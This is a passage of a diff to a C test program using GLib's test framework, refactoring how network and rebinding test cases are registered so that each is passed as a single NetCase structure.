+  g_test_add (path, NetFixture, v, variant_setup, case_run, net_teardown);
 }
 
 int
@@ -1806,10 +1759,15 @@ main (int argc, char **argv)
     {
       for (gsize i = 0; i < G_N_ELEMENTS (net_cases); i++)
         if (variants[v].as == AS_CALLER || net_cases[i].as_user)
-          add_case (variants[v].prefix, net_cases[i].name, net_cases[i].func, variants[v].as, net_cases[i].arg);
+          add_case (variants[v].prefix, &net_cases[i], variants[v].as);
       for (gsize i = 0; i < G_N_ELEMENTS (rebind_cases); i++)
         if (variants[v].as == AS_CALLER || i == 0)
-          add_case (variants[v].prefix, rebind_cases[i].name, test_rebinding, variants[v].as, &rebind_cases[i]);
+          {
+            NetCase *c = g_new0 (NetCase, 1);   /* lives as long as the program */
+
+            *c = (NetCase) { rebind_cases[i].name, test_rebinding, i == 0, &rebind_cases[i], rebind_cases[i].summary };
+            add_case (variants[v].prefix, c, variants[v].as);
+          }
     }
 
   status = g_test_run ();
